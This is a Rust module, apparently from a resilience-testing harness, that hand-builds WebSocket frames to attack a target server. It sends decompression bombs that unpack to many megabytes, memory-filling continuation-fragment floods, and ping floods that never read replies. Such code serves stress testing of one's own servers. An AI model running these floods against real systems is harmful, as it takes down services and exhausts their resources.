//! Frames of a WebSocket. Their mask is zero, which is one of those that there are: what is masked is as it was.

use super::{Target, connect, drop_input, flood};
use crate::victim::FLOODED;
use flate2::{Compress, Compression, FlushCompress};
use std::io;
use std::sync::LazyLock;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const FIN: u8 = 0x80;
const COMPRESSED: u8 = 0x40;
const CONTINUATION: u8 = 0;
const TEXT: u8 = 1;
const PING: u8 = 9;

pub(super) fn upgrade(target: &str) -> String {
    format!(
        "GET {target} HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
    )
}

async fn open(target: Target, number: usize) -> io::Result<TcpStream> {
    let mut socket = connect(target.address, number).await?;
    let follow = upgrade(&format!("/v1/stream/{FLOODED}?offset=now"));
    socket.write_all(follow.as_bytes()).await?;
    let count = socket.read(&mut [0; 4 << 10]).await?;
    if count == 0 { Err(io::ErrorKind::UnexpectedEof.into()) } else { Ok(socket) }
}

fn frame(first: u8, payload: &[u8]) -> Vec<u8> {
    const MASKED: u8 = 0x80;
    let mut frame = vec![first];
    match payload.len() {
        length @ ..126 => frame.push(MASKED | u8::try_from(length).expect("it is below 126")),
        length @ 126..0x1_0000 => {
            frame.push(MASKED | 0x7e);
            frame.extend(u16::try_from(length).expect("it is below 65,536").to_be_bytes());
        }
        length => {
            frame.push(MASKED | 0x7f);
            frame.extend((length as u64).to_be_bytes());
        }
    }
    frame.extend([0; 4]);
    frame.extend(payload);
    frame
}

/// So many opening brackets, as one message.
fn bomb(bytes: usize) -> Vec<u8> {
    let mut packed = Vec::with_capacity(1 << 20);
    Compress::new(Compression::fast(), false)
        .compress_vec(&vec![b'['; bytes], &mut packed, FlushCompress::Sync)
        .expect("compressing does not fail");
    packed.truncate(packed.len() - 4);
    frame(FIN | COMPRESSED | TEXT, &packed)
}

/// Messages of a few kilobytes that are several megabytes once they are unpacked: some more than is allowed, some JSON that is not.
pub(super) async fn bombs(target: Target, number: usize) -> io::Result<()> {
    static BOMBS: LazyLock<[Vec<u8>; 2]> = LazyLock::new(|| [64 << 20, 7 << 20].map(bomb));
    loop {
        let mut socket = open(target, number).await?;
        socket.write_all(&BOMBS[number % 2]).await?;
        let _ended = drop_input(&mut socket).await;
    }
}

/// Some of empty pieces, some of pieces that fill memory.
pub(super) async fn fragments(target: Target, number: usize) -> io::Result<()> {
    let mut socket = open(target, number).await?;
    socket.write_all(&frame(TEXT, b"{")).await?;
    let pieces = match number % 2 {
        0 => frame(CONTINUATION, b"").repeat(20_000),
        _ => frame(CONTINUATION, &b" ".repeat(64 << 10)),
    };
    flood(socket, &pieces).await
}

/// Half of them take no pong.
pub(super) async fn pings(target: Target, number: usize) -> io::Result<()> {
    let mut socket = open(target, number).await?;
    let pings = frame(FIN | PING, &[b'x'; 125]).repeat(2_000);
    if number.is_multiple_of(2) {
        return flood(socket, &pings).await;
    }
    loop {
        socket.write_all(&pings).await?;
    }
}
